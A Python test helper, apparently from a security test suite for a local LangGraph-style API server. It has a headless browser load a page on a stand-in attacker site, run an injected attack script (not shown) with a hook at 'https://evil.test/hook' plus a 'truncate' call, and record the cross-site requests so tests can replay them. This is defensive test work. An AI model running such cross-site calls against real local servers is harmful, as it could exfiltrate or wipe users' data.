"""Record what a browser really sends: `python -m tests.page.recording` writes recorded.json.

The requests of `attack.js` on a page of another site, and those of a page with Studio's origin
that talks to the API as LangGraph's JavaScript SDK does, each shape once. Tests send them again
without a browser; see `replayed`.
"""

import json
import re
import socket
import threading
from contextlib import suppress
from http.client import HTTPResponse
from pathlib import Path
from typing import Any

RECORDED = Path(__file__).with_name("recorded.json")
STUDIO = "https://smith.langchain.com"
CALLS = """async (base) => {
  const headers = {"Content-Type": "application/json", "x-auth-scheme": "langsmith"};
  const post = (path, body) =>
    fetch(base + path, {method: "POST", headers, body: JSON.stringify(body)});
  await fetch(`${base}/info`, {headers});
  await post("/assistants/search", {limit: 1000});
  await post("/threads", {});
  await post("/runs/wait", {assistant_id: "rag", input: {question: "Why?"}, context: {k: 2}});
}"""
_LEFT_OUT = {"user-agent", "sec-ch-ua", "sec-ch-ua-platform", "sec-ch-ua-mobile", "content-length"}
_SHAPE = ("content-type", "origin", "sec-fetch-site", "sec-fetch-mode", "sec-fetch-dest", "upgrade")
_ANSWER = """HTTP/1.1 200 OK\r
Access-Control-Allow-Origin: {origin}\r
Access-Control-Allow-Credentials: true\r
Access-Control-Allow-Headers: content-type, x-auth-scheme\r
Access-Control-Allow-Methods: GET, HEAD, POST, PUT, PATCH, DELETE, QUERY\r
Access-Control-Allow-Private-Network: true\r
Content-Type: application/json\r
Content-Length: 2\r
Connection: close\r
\r
{{}}"""


def recorded(name: str) -> list[dict[str, Any]]:
    """Return the requests of "foreign" or "studio": method, path, headers, body."""
    found: list[dict[str, Any]] = json.loads(RECORDED.read_text("utf-8"))[name]
    return found


def replayed(
    request: dict[str, Any], url: str, before: str = ""
) -> tuple[int, dict[str, str], str]:
    """Send a request again over a socket, byte for byte, to the server at `url`.

    Return status, headers and body of the answer; `before` is put before the path.
    """
    host, port = url.removeprefix("http://").split(":")
    body = request["body"].encode("latin-1")
    lines = [f"{request['method']} {before}{request['path']} HTTP/1.1"]
    lines += [f"{name}: {value}" for name, value in request["headers"]]
    lines += [f"Content-Length: {len(body)}"] if body else []
    head = "\r\n".join([*lines, "", ""]).replace("{server}", f"{host}:{port}")
    with socket.create_connection((host, int(port)), timeout=60) as connection:
        connection.sendall(head.encode() + body)
        answer = HTTPResponse(connection, method=request["method"])
        answer.begin()
        found = {name.lower(): value for name, value in answer.getheaders()}
        return answer.status, found, answer.read().decode()


class Recorder:
    """Answers every request with what lets a browser go on, and keeps the request."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.listening = socket.create_server(("127.0.0.1", 0), backlog=100)
        self.port = self.listening.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self.listening.accept()
                threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError, ValueError):
            received = connection.makefile("rb")
            method, path, _ = received.readline().decode().split()
            headers = [
                line.decode().strip().split(": ", 1) for line in iter(received.readline, b"\r\n")
            ]
            values = {name.lower(): value for name, value in headers}
            body = received.read(int(values.get("content-length", 0)))
            self.requests.append(
                {
                    "method": method,
                    "path": re.sub(r"\?0\.\d+$", "", path),
                    "headers": [
                        [name, value.replace(f"127.0.0.1:{self.port}", "{server}")]
                        for name, value in headers
                        if name.lower() not in _LEFT_OUT
                    ],
                    "body": body.decode("latin-1"),
                }
            )
            connection.sendall(_ANSWER.format(origin=values.get("origin", "*")).encode())

    def shapes(self) -> list[dict[str, Any]]:
        """Return one request of each shape, and each path."""
        found: dict[tuple[str, ...], dict[str, Any]] = {}
        for request in self.requests:
            values = {name.lower(): value for name, value in request["headers"]}
            kind = values.get("content-type", "").partition(";")[0]
            shape = [kind, *(values.get(name, "") for name in _SHAPE[1:])]
            path = request["path"].partition("?")[0]
            found.setdefault((request["method"], path, *shape), request)
        return sorted(found.values(), key=lambda one: (one["path"], one["method"], str(one)))


def main() -> None:
    """Let a browser try everything on a server that only listens."""
    from tests.page.chromium import launched
    from tests.page.foreign import SCRIPT, visiting

    with visiting() as site, launched() as browser:
        foreign, studio = Recorder(), Recorder()
        page = browser.new_page()
        page.goto(f"http://evil.test:{site.server_port}/")
        page.add_script_tag(content=SCRIPT.read_text("utf-8"))
        given = [f"http://127.0.0.1:{foreign.port}", "https://evil.test/hook", "rag"]
        page.evaluate("([base, hook, graph]) => attack(base, hook, graph)", given)
        page.evaluate("base => truncate(base)", given[0])
        context = browser.new_context(permissions=["local-network-access"])
        page = context.new_page()
        # Only the page itself: the browser asks the server about everything else.
        page.route(STUDIO, lambda route: route.fulfill(content_type="text/html", body="<body>"))
        page.goto(STUDIO)
        page.unroute(STUDIO)
        page.evaluate(CALLS, f"http://127.0.0.1:{studio.port}")
        text = json.dumps({"foreign": foreign.shapes(), "studio": studio.shapes()}, indent=1)
        RECORDED.write_text(text.replace(f":{site.server_port}", "") + "\n", "utf-8")


if __name__ == "__main__":
    main()
